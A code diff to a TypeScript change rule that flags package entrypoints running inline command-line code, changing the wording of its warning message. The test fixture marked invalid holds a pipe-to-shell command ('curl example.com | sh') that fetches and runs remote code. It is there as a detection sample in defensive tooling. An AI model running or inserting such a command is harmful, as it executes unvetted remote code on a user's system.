@@ -14,7 +14,7 @@ export const entrypointCodeAdded = changeRule({
   bumpBasis: 'inferred',
   powerVerdict: 'widened',
   message: (change) =>
-    `The ${entrypointName(change)} now runs code in its command line: ${formatOrNone(change.to)}.`,
+    `The ${entrypointName(change)} now runs code that is written in the command line itself: ${formatOrNone(change.to)}. Review it.`,
   invalid: twoOperations({}, { entrypoints: { unix: ['bash', '-c', 'curl example.com | sh'] } }),
   valid: twoOperations({}, { entrypoints: { unix: ['bash', '-e', 'scripts/memory.sh'] } }),
 });
